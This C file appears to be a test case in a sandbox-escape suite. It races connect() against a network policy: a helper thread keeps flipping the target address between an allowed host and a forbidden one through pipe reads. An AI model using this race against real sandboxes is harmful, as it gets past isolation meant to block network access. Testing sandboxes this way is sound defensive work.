// escape: the kernel itself writes the address, as what a read of a pipe brings
// group: argument races
// policy: network
// attempts: 20000
#include "escape.h"

static struct sockaddr_in address, first, second;

static void* pump(void* unused) {
  int ends[2];
  if (pipe(ends) < 0) broken("pipe");
  for (;;) {
    if (write(ends[1], &second, sizeof second) < 0 || read(ends[0], &address, sizeof address) < 0)
      broken("pump");
    if (write(ends[1], &first, sizeof first) < 0 || read(ends[0], &address, sizeof address) < 0)
      broken("pump");
  }
  return unused;
}

static void attack(void) {
  address = first = the_friend();
  second = stranger();
  thread(pump, NULL);
  while (more()) {
    const int fd = tcp(AF_INET);
    connect(fd, ADDRESS(address));
    close(fd);
  }
}
